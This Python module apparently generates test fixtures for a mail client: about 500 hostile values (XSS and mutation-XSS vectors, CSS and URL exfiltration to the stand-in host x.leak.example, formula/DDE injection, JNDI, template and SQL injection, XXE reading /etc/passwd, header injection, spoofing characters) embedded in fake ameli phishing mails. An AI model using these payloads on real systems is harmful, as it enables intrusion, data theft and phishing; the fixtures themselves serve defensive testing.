r"""Five hundred values that a criminal may put wherever a mail has room for words, and mails that carry them everywhere.

Whatever runs says so: it sets `pwned` on the window, opens a dialog, or asks a host below `.leak.example` for something.
"""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Sequence
from email.header import Header
from itertools import product
from urllib.parse import quote

MAILS = 8
"""As many as one person may have fetched at a time."""
RUNS = "window.pwned=1"
LEAK = "//x.leak.example/l"
BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>", '"/>', "</svg>", "{{''}}")
"""Out of what a value may stand in."""
MARKUP = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUNS}>",
    f"<body onload={RUNS}>",
    f"<iframe src=javascript:{RUNS}>",
    f"<a href=javascript:{RUNS} autofocus onfocus={RUNS}>x</a>",
    f'<iframe srcdoc="<script>parent.{RUNS}</script>">',
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}></video>",
    f"<meta http-equiv=refresh content=0;url={LEAK}>",
    f"<base href={LEAK}/>",
    f"<link rel=stylesheet href={LEAK}.css>",
    f"<link rel=dns-prefetch href={LEAK}>",
    f"<img src={LEAK}.png>",
    f"<form action={LEAK} id=f><button form=f>x",
)
MUTATING = (
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUNS}>'>",
    f"<math></p><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUNS}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<svg><![CDATA[><image xlink:href=']]><img src=x onerror={RUNS}>'>",
    f"<table><td><svg><desc><template><img src=x onerror={RUNS}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUNS}>'>",
    f"<listing>&lt;img src=x onerror={RUNS}&gt;</listing>",
    f"<plaintext><img src=x onerror={RUNS}>",
    f"<a href='\x01javascript:{RUNS}'>x</a>",
    f"<a href='java\tscript:{RUNS}'>x</a>",
    f"<img src=`x`onerror={RUNS}>",
    f"<img/src/onerror={RUNS}//>",
    f"<scr\x00ipt>{RUNS}</scr\x00ipt>",
    f"<svg/onload={RUNS}//",
    f"<a href=&#106;avascript:{RUNS}>x",
    f"<x contenteditable onblur={RUNS}>lose</x>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUNS} />#x'>",
    f"<object data='data:text/html,<script>parent.{RUNS}</script>'>",
    f"<embed src='data:image/svg+xml,<svg onload={RUNS} />'>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUNS}>x",
    f"+ADw-script+AD4-{RUNS}+ADw-/script+AD4-",
    f"\x1b$B<script>{RUNS}</script>\x1b(B",
    f"%3Cscript%3E{RUNS}%3C/script%3E",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    f"＜script＞{RUNS}＜/script＞",
    "<div id=csrf name=csrf><form name=body><input name=cookie>",
    "<a id=vigie><a id=vigie name=keys href=//x.leak.example>",
    "<dialog open>Session expirée : <input type=password></dialog>",
)
STYLES = (
    f"<p style=background:url({LEAK})>x",
    f"<p style='background:u\\72l({LEAK})'>x",
    f"<p style='background-image:image-set(\"{LEAK}\" 1x)'>x",
    f"<p style='content:url({LEAK})'>x",
    f"<p style='list-style:url({LEAK})'>x",
    f"<p style='cursor:url({LEAK}),auto'>x",
    f"<p style='background:/**/url(/*x*/{LEAK})'>x",
    "<p style='position:fixed;inset:0;background:red;z-index:9999'>x",
    f"<p style='width:expression({RUNS})'>x",
    f"<p style='behavior:url({LEAK})'>x",
    f"<style>@import '{LEAK}.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({LEAK})}} *{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({LEAK}/a)}}</style>",
    f"<style>*{{background:url({LEAK})}}</style>",
    f"<font color='red;background:url({LEAK})'>x",
    f"<body background={LEAK}>",
    f"<table background={LEAK}><td background={LEAK}>",
)
ADDRESSES = (
    f"javascript:{RUNS}",
    f"JaVaScRiPt:{RUNS}",
    f"javascript://ameli.fr/%0a{RUNS}",
    f"java\nscript:{RUNS}",
    f" javascript:{RUNS}",
    f"vbscript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    f"data:text/html;base64,{b64encode(f'<script>{RUNS}</script>'.encode()).decode()}",
    f"data:image/svg+xml,<svg onload={RUNS}>",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/x",
    "about:blank",
    "view-source:http://127.0.0.1",
    "intent://x.leak.example#Intent;end",
    "ms-msdt:/id PCWDiagnostic",
    "http://x.leak.example/<script>",
    "//x.leak.example",
    "\\\\x.leak.example\\share",
    "http:x.leak.example",
    "http://ameli.fr@x.leak.example/",
    "http://x.leak.example\\@ameli.fr",
    "http://x.leak.example#@ameli.fr",
    "http://ameli.fr\u202e.leak.example",
    "http://аmeli.fr.leak.example",
    "http://ameli。fr.leak.example",
    "http://[::ffff:127.0.0.1]/",
    "http://127.0.0.1:1/",
    "http://0x7f000001/",
    "cid:nowhere",
    "mailto:x@leak.example?body=<script>",
    "tel:+33<script>",
    "../../../settings",
    "/sign-out",
    "?said=<script>",
    "#<script>",
    "http://" + "a" * 500 + ".leak.example",
    "http://x.leak.example/" + "%00" * 100,
    'http://x.leak.example/" onmouseover="' + RUNS,
    "http://x.leak.example/' onmouseover='" + RUNS,
)
FORMULAS = tuple(
    lead + told
    for lead, told in product(
        ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "'=", '"=', "|", "%0A="),
        ("cmd|' /C calc'!A0", 'HYPERLINK("http://x.leak.example","x")', "1+1", 'DDE("cmd";"/C calc";"x")'),
    )
)
TEMPLATES = (
    *("{{7*7}}", "{% raw %}{{x}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__.__mro__}}"),
    *("{#", "{%", "%}", "{count}", "{0}", "{0.__class__}", "%s%s%n", "%(name)s", "$(id)", "`id`", "]]></x>", "&x;"),
    *("{{constructor.constructor('pwned=1')()}}", "${jndi:ldap://x.leak.example}", "<?php phpinfo() ?>"),
    *("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<?xml version='1.0'?>", "'; DROP TABLE records; --"),
    *("' OR '1'='1", '" OR 1=1 --', "NEAR(a b)", "*)(uid=*", "../../etc/passwd", "..\\..\\windows"),
    *("a\r\nSet-Cookie: x=1", f"\r\n\r\n<script>{RUNS}</script>", "%0d%0aLocation: //x.leak.example"),
    *(f"[x](javascript:{RUNS})", "![x](//x.leak.example/i)"),
)
_TURNING = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_UNSEEN = (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u2028\u2029\ufffc\ufffe\uffff\U000e0041\U000e007f\ue000"
)
_CONTROLS = (0, 1, 7, 8, 11, 12, 27, 31, 127, 128, 133, 155, 159)
LETTERS = (
    *(f"facture{char}fdp.exe" for char in _TURNING),
    *(f"a{char}b" for char in _UNSEEN),
    *(f"a{chr(code)}b" for code in _CONTROLS),
    *("مرحبا بالعالم", "שלום עולם", "\u202eאמלי\u202c ameli", "👨‍👩‍👧‍👦" * 20, "Z\u0337\u0328\u031b" * 60),
    *("ﷺ" * 100, "\u0301" * 300, "W" * 2000, "a " * 1500, "<b>" * 300, "&#x" * 200),
    *(char * 400 for char in "<&\"'\\/[("),
    *("&#0;", "&#x0;", "&#xD800;", "&#x110000;", "&NotEqualTilde;", "&amp;amp;lt;", "&lt", "&#60script"),
    *("<!--", "<![CDATA[", "<!DOCTYPE", "</", "<"),
)
_ALL = (
    *(f"{start}{payload}" for payload, start in product(MARKUP, BREAKS)),
    *MUTATING,
    *(f'"><x>{value}' for value in MUTATING),
    *STYLES,
    *ADDRESSES,
    *FORMULAS,
    *TEMPLATES,
    *LETTERS,
)
VALUES: tuple[str, ...] = tuple(dict.fromkeys(_ALL))


def share(number: int) -> Sequence[str]:
    """The values of one mail; all mails together have all of them."""
    return VALUES[number::MAILS]


def _word(value: str) -> str:
    """As an encoded word, which brings any character through any server (RFC 2047)."""
    return Header(value, "utf-8", maxlinelen=70).encode(linesep="\r\n")


def _raw(value: str) -> str:
    """As it is, where a server lets it stand: without line ends and null bytes, and no longer than a line may be."""
    return re.sub(r"[\r\n\x00]", " ", value)[:700]


def _atom(value: str) -> str:
    """Inside of quotes."""
    return _raw(value).replace("\\", "\\\\").replace('"', '\\"')[:300]


def mail(number: int) -> bytes:
    """A false mail whose words are all hostile: each of its values is in every place that has room for many."""
    values = share(number)
    one = [values[at % len(values)] for at in range(number, number + 8)]
    lines = [
        f"Received: from {_raw(one[0])[:60].replace(' ', '')} ([198.51.100.101])",
        f"\tby mx.demo.example (Postfix) with ESMTPS id B{number:09}",
        "\tfor <camille@demo.example>; Mon, 05 Oct 2026 02:12:48 +0200",
        f"From: {_word('ameli Assurance Maladie ' + one[1])} <service{number}@hostile.example>",
        f'Reply-To: "{_atom(one[2])}" <"{_atom(one[3])[:60]}"@leak.example>',
        f"To: {_word(one[4])} <camille@demo.example>",
        f"Subject: {_word(one[5])}",
        f"Message-ID: <{_raw(one[6])[:200].replace(' ', '')}@leak.example>",
        f"List-Unsubscribe: <{_raw(one[7])[:300].replace(' ', '')}>",
        "Date: Mon, 05 Oct 2026 02:12:45 +0200",
        "MIME-Version: 1.0",
        *(f"X-Value-{at}: {_raw(value)}" for at, value in enumerate(values)),
        *(f"X-Word-{at}: {_word(value)}" for at, value in enumerate(values)),
        'Content-Type: multipart/mixed; boundary="=x"',
        "",
        "--=x",
        'Content-Type: multipart/alternative; boundary="=y"',
        "",
        *_text(values),
        *_html(values),
        "--=y--",
        *(line for at, value in enumerate(values) for line in _file(at, value)),
        "--=x--",
        "",
    ]
    return "\r\n".join(lines).encode("utf-8", "replace")


def _text(values: Sequence[str]) -> list[str]:
    text = "L'Assurance Maladie : votre carte Vitale expire, payez les frais.\n" + "\n".join(values)
    return ["--=y", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "", *_base64(text)]


def _html(values: Sequence[str]) -> list[str]:
    """Each value as the body's markup, as a link's address, as a link's text, as a picture's address, text and as an attribute."""
    shown = "".join(
        f'<p>{value}</p><p><a href="{value.replace(chr(34), "&quot;")}">x</a> <a href="http://x.leak.example/?{quote(value)}">{value}</a>'
        f'<img src="{value.replace(chr(34), "&quot;")}" alt="{value}" title=\'{value}\'></p>'
        for value in values
    )
    html = f"<h1>ameli.fr</h1><p>L'Assurance Maladie : votre carte Vitale expire, payez les frais.</p>{shown}"
    return ["--=y", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", *_base64(html)]


def _file(at: int, value: str) -> list[str]:
    """An attachment: its name by RFC 2231, its part's name as it is, its content the value."""
    return [
        "--=x",
        f'Content-Type: text/{("html", "plain", "calendar")[at % 3]}; name="{_atom(value)}"',
        f"Content-Disposition: attachment; filename*=utf-8''{quote(value[:150], safe='')}",
        f"Content-ID: <{_raw(value)[:100]}>",
        "Content-Transfer-Encoding: base64",
        "",
        *_base64(value),
    ]


def _base64(text: str) -> list[str]:
    code = b64encode(text.encode("utf-8", "replace")).decode()
    return [code[start : start + 76] for start in range(0, len(code), 76)]
